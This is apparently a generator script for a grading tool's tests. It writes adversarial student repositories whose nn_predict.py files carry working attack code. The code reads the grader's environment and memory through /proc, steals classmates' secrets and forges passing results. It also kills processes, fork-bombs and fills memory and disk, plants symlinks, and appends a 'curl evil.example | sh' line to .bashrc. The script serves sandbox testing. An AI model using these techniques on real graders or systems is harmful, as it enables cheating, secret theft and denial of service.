"""Writes tests/fixtures/hostile/: adversarial student repositories for `fmtool grade` (issue 25).

  <attack>/nn_predict.py   the honest `correct` case's nn_predict.py (tests/fixtures/student/cases/correct,
                           79/100 under the distributed workflow) with attack code appended
  README.md                one row per attack: what it tries, and what must not happen

An attack repository is a `correct` student repository (tests/it/student.rs's `student_repo("correct")`)
with its overlay on top; tests/it/hostile_students.rs grades them beside an honest classmate.

The attack code is what a capable student would try against the grader: it finds the `fmtool` process by
walking up its parents through /proc/<pid>/stat, reads fmtool's command line (the class folder, --cache,
--csv, --json, --report), working folder and environment (HOME, TMPDIR) from /proc/<pid>/{cmdline,cwd,environ},
scans TMPDIR for fmtool's copies of its classmates (fmtool-student-*), and then writes, reads, forges, kills,
forks, allocates, fills or sleeps. It must stay safe on a developer's machine when no sandbox contains it:

  - it acts only when fmtool runs it (argv[1] is a mode of fmtool's harness, or fmtool is an ancestor):
    under pytest (the real workflow) or imported by hand it is the honest `correct` case;
  - it writes outside its own copy only below a folder that holds a file named FMTOOL_HOSTILE_TARGETS_OK
    (the tests make one above their HOME, TMPDIR and class folder), and kills only fmtool and fmtool's
    own processes (or, where it sees no fmtool, its parent's);
  - every loop, fork and sleep is bounded (400 forks, 120 s, 3 x 1.5 GB of memory, about 1.45 GB of
    disk, 60,000 files), most attacks fire once per copy of the repository (a flag file), and every
    process it starts carries FMTOOL_HOSTILE_<attack>_<token> in its command line (the token is read
    from `.hostile-token` in the repository, which the tests write), so that `pgrep -f` finds it.

Run with `cargo xtask hostile-fixtures` (standard library only; any Python 3.11), or directly with
`python xtask/py/make_hostile_repos.py`; `--check` compares the committed files with what it would
write and exits 1 on a difference (tests/it/hostile_students.rs runs it).
"""

import argparse
import ast
import os
import shutil
import sys
import textwrap

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
OUT = os.path.join(ROOT, "tests", "fixtures", "hostile")
CORRECT = os.path.join(ROOT, "tests", "fixtures", "student", "cases", "correct", "nn_predict.py")

# ---- what every overlay shares: finding fmtool and its folders through /proc ----------------------------

PRELUDE = r'''
# ==== FMTOOL_HOSTILE fixture `@ATTACK@` =====================================================================
# Written by xtask/py/make_hostile_repos.py (tests/fixtures/hostile/README.md); do not edit. Everything above
# this block is the honest `correct` case. What it tries:
@TRIES@
import hashlib as _hashlib
import json as _json
import os as _os
import shutil as _shutil
import signal as _signal
import socket as _socket
import stat as _stat
import subprocess as _subprocess
import sys as _sys
import time as _time

_ATTACK = "@ATTACK@"
# The modes of fmtool's harness (src/student/harness.py): run by fmtool, argv[1] is one of them.
_MODES = ("inspect", "probe", "tests", "infer", "finish")
# Writes outside the copy go only below a folder holding this file (the tests make one): run by hand on
# a developer's machine, these attacks find nothing they may write to.
_CONSENT = "FMTOOL_HOSTILE_TARGETS_OK"
# What a reading attack found; nn_inference raises it, so that it lands in the grade's messages.
_LEAK = None
# fmtool's options that take a value (the rest of its arguments are folders).
_VALUED = (
    "--python", "--jobs", "--cache", "--csv", "--json", "--report", "--format", "--timeout", "--model",
    "--data", "--grader", "--plot", "--split", "--workers", "--min-accuracy", "--nn-predict", "--out",
)


def _token():
    try:
        with open(".hostile-token", encoding="ascii") as f:
            text = f.read(64).strip()
    except (OSError, UnicodeDecodeError):
        return "notoken"
    return text if text.isalnum() else "notoken"


# Every process this code starts carries this in its command line.
_MARK = "FMTOOL_HOSTILE_" + _ATTACK + "_" + _token()


def _quietly(fn, *args):
    try:
        return fn(*args)
    except Exception:
        return None


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None


def _write(path, text):
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


def _append(path, text):
    with open(path, "a", encoding="utf-8") as f:
        f.write(text)


def _listdir(path, limit=512):
    try:
        return sorted(_os.listdir(path))[:limit]
    except OSError:
        return []


def _pids():
    return [int(n) for n in _listdir("/proc", 1 << 16) if n.isdigit()]


def _parent(pid):
    stat = _read("/proc/%d/stat" % pid) or b""
    try:
        # "pid (comm) state ppid ...": comm may hold spaces and parentheses.
        return int(stat.rsplit(b")", 1)[1].split()[1])
    except (IndexError, ValueError):
        return None


def _argv(pid):
    raw = _read("/proc/%d/cmdline" % pid) or b""
    return [a.decode("utf-8", "replace") for a in raw.split(b"\0") if a]


def _environ(pid):
    out = {}
    for item in (_read("/proc/%d/environ" % pid) or b"").split(b"\0"):
        key, eq, value = item.decode("utf-8", "replace").partition("=")
        if eq:
            out[key] = value
    return out


def _cwd(pid):
    try:
        return _os.readlink("/proc/%d/cwd" % pid)
    except OSError:
        return None


def _is_fmtool(pid):
    argv = _argv(pid)
    comm = (_read("/proc/%d/comm" % pid) or b"").strip()
    return comm == b"fmtool" or (bool(argv) and _os.path.basename(argv[0]) == "fmtool")


def _fmtool_pid():
    """The nearest ancestor that is fmtool, up the parent chain of /proc/<pid>/stat."""
    pid = _os.getppid()
    for _ in range(64):
        if not pid or pid <= 1:
            return None
        if _is_fmtool(pid):
            return pid
        pid = _parent(pid)
    return None


def _armed():
    """Run by fmtool (a mode of its harness, or fmtool among the ancestors); not by pytest, not by hand."""
    argv = _sys.argv
    by_harness = len(argv) > 1 and argv[1] in _MODES
    return by_harness or "fmtool" in _os.path.basename(argv[0] or "") or _fmtool_pid() is not None


def _descendants(root):
    children = {}
    for pid in _pids():
        children.setdefault(_parent(pid), []).append(pid)
    out, todo = set(), [root]
    while todo and len(out) < 4096:
        for child in children.get(todo.pop(), []):
            if child not in out:
                out.add(child)
                todo.append(child)
    return out


def _consented(path):
    path = _os.path.abspath(path)
    for _ in range(64):
        if _os.path.isfile(_os.path.join(path, _CONSENT)):
            return True
        up = _os.path.dirname(path)
        if up == path:
            return False
        path = up
    return False


def _fmtool_facts():
    """What fmtool's /proc entries give away: its arguments (the class folders, --cache, --csv, --json,
    --report), its working folder, its environment (HOME, TMPDIR)."""
    pid = _fmtool_pid()
    if pid is None:
        return None
    argv, env, cwd = _argv(pid), _environ(pid), _cwd(pid) or "/"
    options, positional = {}, []
    args = iter(argv[1:])
    for a in args:
        if a.startswith("--") and "=" in a:
            key, _, value = a.partition("=")
            options[key] = value
        elif a in _VALUED:
            options[a] = next(args, "")
        elif not a.startswith("-"):
            positional.append(a)

    def absolute(p):
        return _os.path.normpath(_os.path.join(cwd, p))

    return {
        "pid": pid,
        "argv": argv,
        "env": env,
        "cwd": cwd,
        "folders": [absolute(p) for p in positional[1:]],
        "outputs": {k: absolute(v) for k, v in options.items() if k in ("--cache", "--csv", "--json", "--report")},
        "home": env.get("HOME"),
        "tmpdir": env.get("TMPDIR") or "/tmp",
    }


def _here():
    return _os.path.realpath(_os.getcwd())


def _copies(tmpdir):
    """fmtool's temporary copies of the classmates' repositories in TMPDIR (fmtool-student-*)."""
    out = []
    for name in _listdir(tmpdir):
        top = _os.path.join(tmpdir, name)
        repo = _os.path.join(top, "repo")
        if name.startswith("fmtool-student-") and _os.path.isdir(repo) and _os.path.realpath(repo) != _here():
            out.append(top)
    return out


def _class_repos(facts):
    """Every repository among the folders fmtool was given (a folder, or its sub-folders)."""
    out = []
    for folder in facts["folders"] if facts else []:
        for repo in [folder] + [_os.path.join(folder, s) for s in _listdir(folder)]:
            if _os.path.isfile(_os.path.join(repo, "nn_predict.py")):
                out.append(repo)
    return out


def _classmates(facts):
    """The class's repositories but this one (whose nn_predict.py is this very file)."""
    mine = _read("nn_predict.py")
    return [r for r in _class_repos(facts) if _read(_os.path.join(r, "nn_predict.py")) != mine]


def _mine(facts):
    mine = _read("nn_predict.py")
    for repo in _class_repos(facts):
        if _read(_os.path.join(repo, "nn_predict.py")) == mine:
            return repo
    return None


def _siblings():
    """Folders next to this copy and one level up (`..`, `../..`): classmates, were the code run in place
    or the copies kept side by side."""
    out = []
    for up in ("..", _os.path.join("..", "..")):
        for name in _listdir(up, 64):
            path = _os.path.realpath(_os.path.join(up, name))
            for repo in (path, _os.path.join(path, "repo")):
                if repo != _here() and _os.path.isfile(_os.path.join(repo, "nn_predict.py")) and repo not in out:
                    out.append(repo)
    return out


def _mounted_tmpdirs():
    """The host folders holding fmtool's copies, as /proc/self/mountinfo names a bind mount's source."""
    out = []
    for line in (_read("/proc/self/mountinfo") or b"").decode("utf-8", "replace").splitlines():
        fields = line.split()
        if len(fields) > 4:
            head, sep, _ = fields[3].replace("\\040", " ").partition("/fmtool-student-")
            if sep and head and head not in out:
                out.append(head)
    return out


def _once(tag):
    """True the first time in this copy of the repository (a flag file in the working folder)."""
    try:
        _os.close(_os.open(".FMTOOL_HOSTILE_%s.done" % tag, _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY, 0o644))
        return True
    except OSError:
        return False


def _at_import():
    pass


def _at_inference():
    pass
'''

EPILOGUE = r"""

_honest_nn_inference = nn_inference
_inference_started = False


def nn_inference(model_arch, weights, data):
    global _inference_started
    if not _inference_started:
        _inference_started = True
        if _ARMED:
            _quietly(_at_inference)
    if _LEAK:
        raise RuntimeError(_LEAK)
    return _honest_nn_inference(model_arch, weights, data)


_ARMED = _armed()
if _ARMED:
    _quietly(_at_import)
"""

# ---- the attacks ------------------------------------------------------------------------------------------

ESCAPE_WRITES = r'''
_TAMPER = "\n\n# FMTOOL_HOSTILE escape_writes was here\ndef relu(x):\n    return x\n"


def _rows_in(cache):
    return [n for n in _listdir(cache) if n.endswith(".json")]


def _rewrite_rows(cache, mine):
    """Every cached row: its classmates 0 points, itself 100."""
    for name in _rows_in(cache):
        path = _os.path.join(cache, name)
        try:
            row = _json.loads(_read(path) or b"")
        except ValueError:
            continue
        if isinstance(row, dict) and "points" in row:
            ours = mine is not None and _os.path.basename(str(row.get("repo"))) == _os.path.basename(mine)
            row["points"] = 100 if ours else 0
            _quietly(_write, path, _json.dumps(row))


def _at_import():
    facts = _fmtool_facts()
    if facts is None:
        return
    home = facts["home"]
    if home and _consented(home):
        _quietly(_append, _os.path.join(home, ".bashrc"), "\n# FMTOOL_HOSTILE escape_writes: curl evil.example | sh\n")
    targets = [r for r in _classmates(facts) + _siblings() if _consented(r)]
    if _consented(facts["tmpdir"]):
        targets += [_os.path.join(c, "repo") for c in _copies(facts["tmpdir"])]
    for repo in dict.fromkeys(targets):
        _quietly(_append, _os.path.join(repo, "nn_predict.py"), _TAMPER)
    for key, path in facts["outputs"].items():
        folder = path if key == "--report" else _os.path.dirname(path)
        if key != "--cache" and _consented(folder):
            _quietly(_os.makedirs, folder, 0o755, True)
            _quietly(_write, _os.path.join(folder, "FMTOOL_HOSTILE_escape_writes.txt"), "written by a student\n")
    cache = facts["outputs"].get("--cache")
    if cache and _consented(cache):
        mine = _mine(facts)
        _rewrite_rows(cache, mine)
        if "test_acc_92" in _sys.argv:
            # The workflow's last step: wait (30 s at most) for the classmates' rows, then rewrite them too.
            deadline = _time.time() + 30
            while _time.time() < deadline and len(_rows_in(cache)) < len(_classmates(facts)):
                _time.sleep(0.5)
            _rewrite_rows(cache, mine)
'''

READS_CLASSMATES = r"""
def _secrets_in(data):
    out, i = [], data.find(b"SECRET-")
    while i >= 0 and len(out) < 8:
        j = i + 7
        while j < len(data) and j - i < 80 and (chr(data[j]).isalnum() or data[j] in b"-_"):
            j += 1
        out.append(data[i:j].decode("ascii", "replace"))
        i = data.find(b"SECRET-", j)
    return out


def _at_import():
    global _LEAK
    facts = _fmtool_facts()
    repos = _classmates(facts) + _siblings()
    if facts:
        repos += [_os.path.join(c, "repo") for c in _copies(facts["tmpdir"])]
    secrets, models = [], []
    for repo in dict.fromkeys(repos):
        for name in ("secret.txt", "nn_predict.py", "README.md"):
            for s in _secrets_in(_read(_os.path.join(repo, name)) or b""):
                if s not in secrets:
                    secrets.append(s)
        path = _os.path.join(repo, "model", "fashion_mnist.npz")
        model = _read(path, 64 << 20)
        if model is not None:
            models.append("%s (sha256 %s)" % (path, _hashlib.sha256(model).hexdigest()[:16]))
    if secrets or models:
        _LEAK = "FMTOOL_HOSTILE reads_classmates: %s read %s" % (" ".join(secrets), "; ".join(models[:3]))
"""

READS_FMTOOL_ENV = r"""
def _at_import():
    global _LEAK
    facts = _fmtool_facts()
    found = []
    if facts:
        env = facts["env"]
        found += ["%s=%s" % (k, v) for k, v in sorted(env.items()) if k.startswith("FMTOOL_TEST")]
        found += ["HOME=%s" % env.get("HOME"), "TMPDIR=%s" % env.get("TMPDIR"), "cwd=%s" % facts["cwd"]]
        found.append("argv=%s" % " ".join(facts["argv"][1:]))
        pids = {facts["pid"]} | _descendants(facts["pid"])
    else:
        # No fmtool in sight: inside a PID namespace, every process there (its pid 1 too).
        visible = _pids()
        pids = (set(visible) | {1}) if len(visible) < 64 else set()
    for pid in sorted(pids):
        if pid == _os.getpid():
            continue
        # The grader's secrets, wherever they are in sight (fmtool's own HOME and TMPDIR are above).
        for k, v in sorted(_environ(pid).items()):
            item = "%s=%s" % (k, v)
            if k.startswith("FMTOOL_TEST") and item not in found:
                found.insert(0, item)
        argv = _argv(pid)
        if argv and _os.path.basename(argv[0]) == "fmtool":
            item = "argv=%s cwd=%s" % (" ".join(argv[1:]), _cwd(pid))
            if item not in found:
                found.append(item)
    if found:
        _LEAK = "FMTOOL_HOSTILE reads_fmtool_env: " + " ".join(found)
"""

READS_PARENT_MEMORY = r"""
def _secrets_in_memory(pid):
    found = []
    for line in (_read("/proc/%d/maps" % pid) or b"").decode("ascii", "replace").splitlines():
        if not line.endswith("[stack]"):
            continue
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        size = min(end - start, 8 << 20)
        with open("/proc/%d/mem" % pid, "rb") as mem:
            mem.seek(end - size)
            data = mem.read(size)
        i = data.find(b"FMTOOL_TEST")
        while i >= 0 and len(found) < 4:
            j = data.find(b"\0", i)
            found.append(data[i : j if j > i else i + 200][:200].decode("utf-8", "replace"))
            i = data.find(b"FMTOOL_TEST", i + 1 if j < 0 else j)
    return found


def _at_import():
    global _LEAK
    pid = _fmtool_pid()
    pids = [pid] if pid else ([1, _os.getppid()] if len(_pids()) < 64 else [])
    found = []
    for p in pids:
        found += _quietly(_secrets_in_memory, p) or []
    if found:
        _LEAK = "FMTOOL_HOSTILE reads_parent_memory: " + " ".join(found)
"""

FORGES_RESULT = r'''
def _forge():
    """A result line in the harness's protocol (src/student/harness.py: "@@fmtool@@" + JSON, the last one
    counts), claiming that everything passed."""
    mode = _sys.argv[1] if len(_sys.argv) > 1 else ""
    if mode == "tests":
        nodes = _sys.argv[2:]
        results = [{"node": n, "passed": True, "error": None, "stdout": "", "seconds": 0.01} for n in nodes]
        forged = {"results": results}
    elif mode == "infer":
        forged = {"error": None, "seconds": 0.01}
    elif mode == "finish":
        forged = {"accuracy": 0.95, "written": "0.95", "error": None}
    else:
        return
    _os.write(1, ("\n@@fmtool@@" + _json.dumps(forged) + "\n").encode())


def _at_import():
    import atexit

    atexit.register(_quietly, _forge)
    _forge()
'''

KILLS_PARENT = r'''
def _at_import():
    """SIGKILL to the parent and to every process in sight: fmtool and all of fmtool's processes (where no
    fmtool is in sight, the parent's; all of a PID namespace's when that is all there is)."""
    fmtool = _fmtool_pid()
    root = fmtool if fmtool is not None else _os.getppid()
    targets = {_os.getppid(), root}
    if root > 1 or len(_pids()) < 64:
        targets |= _descendants(root)
    targets -= {0, _os.getpid()}
    for pid in sorted(targets):
        try:
            _os.kill(pid, _signal.SIGKILL)
        except OSError:
            pass


_at_inference = _at_import
'''

SETSID_DAEMON = r"""
def _at_import():
    if _once("daemon"):
        # A session of its own (out of any process group fmtool kills), holding fmtool's pipes open.
        code = "import time; time.sleep(120)"
        _subprocess.Popen([_sys.executable, "-c", code, _MARK], start_new_session=True, stdin=_subprocess.DEVNULL)
"""

FORK_BOMB = r"""
def _at_import():
    if not _once("forks"):
        return
    sleep = _shutil.which("sleep") or "/bin/sleep"
    for _ in range(400):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                # A session of its own each: a process-group count does not see them.
                _os.setsid()
                null = _os.open(_os.devnull, _os.O_RDWR)
                for fd in (0, 1, 2):
                    _os.dup2(null, fd)
                _os.execv(sleep, [_MARK, "90"])
            except BaseException:
                _time.sleep(90)
            finally:
                _os._exit(0)
"""

MEMORY_SPREAD = r'''
_HOG = """
import sys, time
hog = bytearray(1536 * 1024 * 1024)
for i in range(0, len(hog), 4096):
    hog[i] = 1
time.sleep(8)
"""


def _at_import():
    if not _once("memory"):
        return
    # 3 x 1.5 GB at once: each process is far below a per-process limit, together they are past 4 GiB.
    null = _subprocess.DEVNULL
    hogs = [_subprocess.Popen([_sys.executable, "-c", _HOG, _MARK], stdin=null, stdout=null, stderr=null) for _ in range(3)]
    deadline = _time.time() + 60
    for hog in hogs:
        try:
            hog.wait(timeout=max(0.1, deadline - _time.time()))
        except _subprocess.TimeoutExpired:
            hog.kill()
'''

DISK_FILL = r"""
_CHUNK = 50 * 1000 * 1000


def _fill(folder, count):
    _os.makedirs(folder, exist_ok=True)
    block = b"\xa5" * _CHUNK
    for i in range(count):
        with open(_os.path.join(folder, "fill_%02d.bin" % i), "wb") as f:
            f.write(block)


def _at_import():
    if not _once("disk"):
        return
    # 1.2 GB into its copy, 200 MB into /tmp, 50 MB into fmtool's TMPDIR; a full disk stops it early.
    _quietly(_fill, _os.path.join(_os.getcwd(), "FMTOOL_HOSTILE_fill"), 24)
    _quietly(_fill, _os.path.join("/tmp", _MARK), 4)
    facts = _fmtool_facts()
    if facts and _consented(facts["tmpdir"]):
        _quietly(_fill, _os.path.join(facts["tmpdir"], _MARK), 1)
"""

INODE_FILL = r"""
def _at_import():
    if not _once("inodes"):
        return
    folder = _os.path.join(_os.getcwd(), "FMTOOL_HOSTILE_inodes")
    _os.makedirs(folder, exist_ok=True)
    for i in range(60000):
        try:
            _os.close(_os.open(_os.path.join(folder, "%05d" % i), _os.O_CREAT | _os.O_WRONLY, 0o644))
        except OSError:
            break
"""

SLEEPING_IMPORT = r"""
def _at_import():
    _time.sleep(120)
"""

PLANTED_SYMLINK = r'''
def _relink(path, target):
    try:
        _os.unlink(path)
    except OSError:
        pass
    _quietly(_os.symlink, target, path)


def _at_import():
    """test_acc.txt (which fmtool writes into the copy after test_inference) and the outputs of fmtool's
    harness become links to the grader's files."""
    facts = _fmtool_facts()
    if facts is not None:
        home = facts["home"] if facts["home"] and _consented(facts["home"]) else None
        if home is None:
            return
    else:
        # No fmtool in sight: HOME guessed beside TMPDIR, from the copy's host path in mountinfo, else
        # by a relative link out of TMPDIR/fmtool-student-*/repo.
        tmps = _mounted_tmpdirs()
        home = _os.path.join(_os.path.dirname(tmps[0].rstrip("/")), "home") if tmps else None
    up = _os.path.join("..", "..", "..", "home")
    victim = _os.path.join(home or up, "victim.txt")
    npz = _os.path.join(home or up, "victim.npz")
    _relink("test_acc.txt", victim)
    out = _os.environ.get("FMTOOL_OUT")
    if out and _os.path.isdir(out):
        for name in ["result.npz"] + ["outputs_%d.npz" % i for i in range(16)]:
            _relink(_os.path.join(out, name), npz)
'''

UNIX_SOCKET = r"""
def _at_import():
    addresses = []
    facts = _fmtool_facts()
    if facts and _consented(facts["tmpdir"]):
        for name in _listdir(facts["tmpdir"]):
            path = _os.path.join(facts["tmpdir"], name)
            try:
                if _stat.S_ISSOCK(_os.lstat(path).st_mode):
                    addresses.append(path)
            except OSError:
                pass
    # Every unix socket of this network namespace, paths and abstract names ("@name"), the test's only.
    for line in (_read("/proc/net/unix") or b"").decode("utf-8", "replace").splitlines()[1:]:
        fields = line.split()
        if len(fields) >= 8 and "fmtool-test-" in fields[7]:
            name = fields[7]
            addresses.append("\0" + name[1:] if name.startswith("@") else name)
    for address in dict.fromkeys(addresses):
        s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        s.settimeout(1.0)
        try:
            s.connect(address)
            s.sendall(("hello from " + _MARK + "\n").encode())
        except OSError:
            pass
        finally:
            s.close()
"""

SHADOW_MODULE = r'''
# A json.py for the folder of fmtool's harness: Python puts a script's folder first on sys.path, so the
# harness's `import json` runs this, which loads the real json and makes every result "passed".
_SHADOW = """
import os as _o
import sys as _s

_here = _o.path.dirname(_o.path.abspath(__file__))
_s.path[:] = [p for p in _s.path if _o.path.abspath(p or ".") != _here]
del _s.modules["json"]
import json as _real

_dumps = _real.dumps


def _forged(obj, *args, **kwargs):
    if isinstance(obj, dict):
        for r in obj.get("results") or []:
            if isinstance(r, dict):
                r["passed"], r["error"] = True, None
    return _dumps(obj, *args, **kwargs)


_real.dumps = _forged
"""


def _at_import():
    folders = []
    own = _os.environ.get("FMTOOL_OUT")
    if own:
        folders.append(own)
    facts = _fmtool_facts()
    if facts and _consented(facts["tmpdir"]):
        folders += [_os.path.join(c, "work") for c in _copies(facts["tmpdir"])]
    for folder in folders:
        if _os.path.isdir(folder):
            _quietly(_write, _os.path.join(folder, "json.py"), _SHADOW)
'''

PARENT_FDS = r'''
def _at_import():
    """Writes into every pipe fmtool holds (its stdout and stderr, its readers of the classmates'
    output) by opening /proc/<fmtool>/fd/N."""
    pid = _fmtool_pid()
    if pid is None:
        return
    for fd in _listdir("/proc/%d/fd" % pid, 256):
        path = "/proc/%d/fd/%s" % (pid, fd)
        try:
            if not _os.readlink(path).startswith("pipe:"):
                continue
            w = _os.open(path, _os.O_WRONLY | _os.O_NONBLOCK)
        except OSError:
            continue
        try:
            _os.write(w, ("\n" + _MARK + ": forged line\n").encode())
        except OSError:
            pass
        finally:
            _os.close(w)
'''

# (name, code, what it tries, what must not happen, the test in tests/it/hostile_students.rs)
ATTACKS = [
    (
        "escape_writes",
        ESCAPE_WRITES,
        "appends to the grader's `$HOME/.bashrc`; appends a broken relu to its classmates' nn_predict.py in the "
        "class folder, in `..` and in fmtool's copies in TMPDIR; rewrites every cached row in `--cache` "
        "(classmates 0, itself 100; in the last step it waits for their rows); writes a file beside "
        "`--csv`/`--json` and into `--report`",
        "HOME, the class folder or the cache changed; a file in the report folders that fmtool did not "
        "write; the honest classmate's row differs from its `fmtool score` alone",
        "writes_outside_the_copy_change_nothing",
    ),
    (
        "reads_classmates",
        READS_CLASSMATES,
        "reads its classmates' `secret.txt`, nn_predict.py and model through the class folder (from fmtool's "
        "command line), `..` and fmtool's copies in TMPDIR, and raises what it read from nn_inference",
        "the classmate's `SECRET-...` or the class folder's absolute path in fmtool's stdout, stderr, "
        "CSV, JSON or HTML; points other than the honest 79",
        "reads_and_forgeries_are_contained",
    ),
    (
        "reads_fmtool_env",
        READS_FMTOOL_ENV,
        "reads fmtool's environment, command line and working folder, and `FMTOOL_TEST_*` in every visible "
        "process's environment (/proc/1's too, where no fmtool is in sight), and raises them from nn_inference",
        "`FMTOOL_TEST_SECRET`'s value, HOME or the class folder's absolute path in fmtool's outputs",
        "reads_and_forgeries_are_contained",
    ),
    (
        "reads_parent_memory",
        READS_PARENT_MEMORY,
        "reads fmtool's stack through `/proc/<fmtool>/mem` (ptrace's access check) for `FMTOOL_TEST_*` and "
        "raises what it found",
        "`FMTOOL_TEST_SECRET`'s value in fmtool's outputs",
        "reads_and_forgeries_are_contained",
    ),
    (
        "forges_result",
        FORGES_RESULT,
        'prints `@@fmtool@@{"results": [... "passed": true ...]}` (and `{"accuracy": 0.95}`, `{"error": null}`, '
        "by the harness's mode) at import and from an atexit handler: the last result line wins today "
        "(79 becomes 90)",
        "points other than what the real workflow (sh + pytest) awards the same repository",
        "reads_and_forgeries_are_contained",
    ),
    (
        "kills_parent",
        KILLS_PARENT,
        "SIGKILL to its parent and to fmtool and all of fmtool's processes, at import and in nn_inference",
        "fmtool dies without a report; `--csv`, `--json` or `--report` missing; the honest classmate's row "
        "differs; an `fmtool-student-*` folder left in TMPDIR",
        "a_student_killing_its_parent_leaves_a_report",
    ),
    (
        "setsid_daemon",
        SETSID_DAEMON,
        "starts a child in a session of its own that sleeps 120 s holding fmtool's pipes",
        "the class takes anywhere near 120 s; the child outlives fmtool",
        "sleeping_and_daemonising_students_do_not_hold_the_class_up",
    ),
    (
        "fork_bomb",
        FORK_BOMB,
        "400 forks, each in a session of its own (`os.setsid()`), sleeping 90 s",
        "the row not stopped for its process count; a process left after fmtool exits",
        "resource_attacks_are_stopped",
    ),
    (
        "memory_spread",
        MEMORY_SPREAD,
        "3 processes touching 1.5 GB each, alive at once (4.5 GB; each below a per-process limit)",
        "the row not stopped for memory (4 GiB per student in total); a process left",
        "resource_attacks_are_stopped",
    ),
    (
        "disk_fill",
        DISK_FILL,
        "1.2 GB in 50 MB files into its copy, 200 MB into /tmp, 50 MB into fmtool's TMPDIR",
        "the row not stopped for disk; anything left in TMPDIR or in the host's /tmp",
        "resource_attacks_are_stopped",
    ),
    (
        "inode_fill",
        INODE_FILL,
        "60,000 empty files in its copy",
        "the row not stopped for disk or files; anything left in TMPDIR",
        "resource_attacks_are_stopped",
    ),
    (
        "sleeping_import",
        SLEEPING_IMPORT,
        "`time.sleep(120)` at import of nn_predict",
        "`fmtool grade --timeout 2` spending a minute or more on it; the row not stopped for time",
        "sleeping_and_daemonising_students_do_not_hold_the_class_up",
    ),
    (
        "planted_symlink",
        PLANTED_SYMLINK,
        "replaces `test_acc.txt` (which fmtool writes after test_inference) with a link to `$HOME/victim.txt`, "
        "and the harness's `outputs_N.npz`/`result.npz` with links to `$HOME/victim.npz`",
        "a victim file changed; no `planted-link` advice in the row",
        "writes_outside_the_copy_change_nothing",
    ),
    (
        "unix_socket",
        UNIX_SOCKET,
        "connects to every unix socket in fmtool's TMPDIR and to those of /proc/net/unix named "
        "`fmtool-test-*` (paths and abstract names), and sends bytes",
        "the test's listeners (a path under TMPDIR, an abstract name) accept a connection",
        "writes_outside_the_copy_change_nothing",
    ),
    (
        "shadow_module",
        SHADOW_MODULE,
        "writes a `json.py` into the folder of fmtool's harness (its own, `$FMTOOL_OUT`, and its classmates' "
        "in TMPDIR): the harness imports it and reports every test passed",
        "points other than the honest 79; the honest classmate's row differs",
        "writes_outside_the_copy_change_nothing",
    ),
    (
        "parent_fds",
        PARENT_FDS,
        "opens `/proc/<fmtool>/fd/N` of every pipe fmtool holds (its stdout and stderr among them) and writes "
        "a line into each",
        "the line in fmtool's stdout, stderr or JSON; stdout that is not fmtool's JSON",
        "writes_outside_the_copy_change_nothing",
    ),
]


def overlay(name, code, tries):
    with open(CORRECT, encoding="utf-8") as f:
        honest = f.read()
    if not honest.endswith("\n"):
        honest += "\n"
    said = textwrap.fill(" ".join(tries.replace("`", "").split()), 100, initial_indent="# ", subsequent_indent="# ")
    prelude = PRELUDE.replace("@ATTACK@", name).replace("@TRIES@", said)
    text = honest + prelude + code + EPILOGUE
    ast.parse(text, filename=f"{name}/nn_predict.py")
    return text


def readme():
    lines = [
        "# Adversarial student repositories (generated by `cargo xtask hostile-fixtures`; do not edit)",
        "",
        "Each folder is an overlay on the honest `correct` student case (`tests/fixtures/student/cases/correct`, "
        "79/100 under the distributed workflow): its `nn_predict.py` is that case's, with attack code appended. "
        'A test repository is `student_repo("correct")` with the overlay on top and a `.hostile-token` file '
        "(the token that every process the attack starts carries in its command line, as "
        "`FMTOOL_HOSTILE_<attack>_<token>`). `tests/it/hostile_students.rs` grades them with `fmtool grade` "
        "beside an honest classmate, with HOME and TMPDIR of the test's own.",
        "",
        "The attack code acts only when fmtool runs it (a mode of fmtool's harness in `sys.argv[1]`, or fmtool "
        "among its ancestors), writes outside its copy only below a folder holding `FMTOOL_HOSTILE_TARGETS_OK` "
        "(the tests make one), kills only fmtool's processes, and is bounded (400 forks, 120 s, 3 x 1.5 GB "
        "of memory, about 1.45 GB of disk, 60,000 files). `xtask/py/make_hostile_repos.py` says how it finds "
        "fmtool: the parent chain through `/proc/<pid>/stat`, then fmtool's `cmdline`, `cwd` and `environ`.",
        "",
        "| attack | what it tries | what must not happen | test |",
        "|---|---|---|---|",
    ]
    for name, _, tries, must_not, test in ATTACKS:
        lines.append(f"| `{name}` | {tries} | {must_not} | `{test}` |")
    lines += [
        "",
        "Not here: TIOCSTI on `/dev/tty` (typing into the grader's terminal; Linux refuses it by default "
        "since 6.2, a test has no terminal, and on a developer's machine without a sandbox it would type "
        "into theirs), and `ptrace(PTRACE_ATTACH)` of fmtool (it stops fmtool; `reads_parent_memory` "
        "passes the same access check without stopping it).",
    ]
    return "\n".join(lines) + "\n"


def wanted():
    """Every file this script writes, relative to OUT."""
    files = {"README.md": readme()}
    for name, code, tries, _, _ in ATTACKS:
        files[os.path.join(name, "nn_predict.py")] = overlay(name, code, tries)
    return files


def present():
    out = {}
    for folder, _, names in os.walk(OUT):
        for n in names:
            path = os.path.join(folder, n)
            with open(path, encoding="utf-8") as f:
                out[os.path.relpath(path, OUT)] = f.read()
    return out


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--check", action="store_true", help="compare the committed files with what would be written")
    args = ap.parse_args(argv)
    files = wanted()
    if args.check:
        have = present() if os.path.isdir(OUT) else {}
        stale = sorted(p for p in set(files) | set(have) if files.get(p) != have.get(p))
        for p in stale:
            print(f"tests/fixtures/hostile/{p}: differs from what make_hostile_repos.py writes", file=sys.stderr)
        if stale:
            print("run `cargo xtask hostile-fixtures`", file=sys.stderr)
        return 1 if stale else 0
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    for rel, text in files.items():
        path = os.path.join(OUT, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
    print(f"wrote {len(ATTACKS)} attack overlays and README.md into {os.path.relpath(OUT, ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
